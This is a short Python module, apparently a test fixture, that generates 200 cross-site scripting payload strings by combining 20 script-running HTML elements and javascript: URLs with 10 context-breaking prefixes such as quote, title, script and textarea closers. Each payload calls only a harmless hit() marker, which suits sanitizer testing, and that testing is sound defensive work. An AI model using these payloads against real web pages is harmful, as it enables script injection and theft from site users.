"""Texts that run as a script wherever a page takes a text for more than a text."""

from __future__ import annotations

from itertools import islice, product

_ELEMENTS = (
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()></video>",
    "<input autofocus onfocus=hit()>",
    "<a href=javascript:hit()>x</a>",
    "<body onpageshow=hit()>",
    "<style onload=hit()></style>",
    "<math><a xlink:href=javascript:hit()>x</a></math>",
    "<object data=javascript:hit()></object>",
    "<meta http-equiv=refresh content=0;url=javascript:hit()>",
    "<template><script>hit()</script></template>",
    "<marquee onstart=hit()>",
    "<base href=javascript:hit()//>",
    "<script type=module>hit()</script>",
    "<img src=x:x onerror=&#104;it()>",
    "javascript:hit()",
)
_FRAMES = (
    "{}", '">{}', "'>{}", "--><!-- -->{}", "</title>{}", "</script>{}", "</textarea>{}", "${{{}}}",
    "{{{{{}}}}}", "\u2028{}",
)  # fmt: skip

PAYLOADS = [frame.format(element) for frame, element in islice(product(_FRAMES, _ELEMENTS), 200)]
